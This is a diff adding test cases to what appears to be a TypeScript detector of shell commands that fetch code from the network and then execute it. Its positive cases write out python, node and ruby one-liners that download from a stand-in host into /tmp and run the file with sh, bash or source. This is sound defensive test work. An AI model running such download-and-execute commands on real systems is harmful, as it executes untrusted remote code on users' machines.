@@ -39,3 +39,30 @@ describe('compiled code that runs what it fetches', () => {
     await expect(command).not.toTell(RUNS_IT);
   });
 });
+
+describe('a file that code has fetched', () => {
+  const python = (code: string): string => `python3 -c ${JSON.stringify(code)}`;
+  const KEEPS = "import requests; open('/tmp/a','w').write(requests.get('https://x.test/a').text)";
+
+  it.each([
+    `${python("import urllib.request; urllib.request.urlretrieve('https://x.test/a','/tmp/a')")} && sh /tmp/a`,
+    `${python(KEEPS)} && chmod +x /tmp/a && /tmp/a`,
+    `${python(KEEPS)}; . /tmp/a`,
+    `${python(KEEPS)} && cp /tmp/a b && bash b`,
+    `node -e "fetch('https://x.test/a').then(r=>r.text()).then(t=>require('fs').writeFileSync('/tmp/a.js',t))" && node /tmp/a.js`,
+    `ruby -e 'require "open-uri"; File.write("/tmp/a", URI.open("https://x.test/a").read)' && sh /tmp/a`,
+  ])('is run as what comes over the net: %s', async (command) => {
+    await expect(command).toTell(RUNS_IT);
+  });
+
+  it.each([
+    `${python(KEEPS)} && cat /tmp/a && rm /tmp/a`,
+    `${python(KEEPS)} && bash b`,
+    `${python(KEEPS)} && jq . /tmp/a > b.json && git add b.json`,
+    `${python(KEEPS)} && echo 'echo 1' > /tmp/a && sh /tmp/a`,
+    `${python("import requests; open('m.py','w').write(models(requests.get('https://x.test/api').json()))")} && python3 m.py`,
+    `${python("import requests; open('a.sh','w').write(requests.get('http://localhost:3000/a').text)")} && sh a.sh`,
+  ])('is none that is kept, made of data, or comes from this machine: %s', async (command) => {
+    await expect(command).not.toTell(RUNS_IT);
+  });
+});
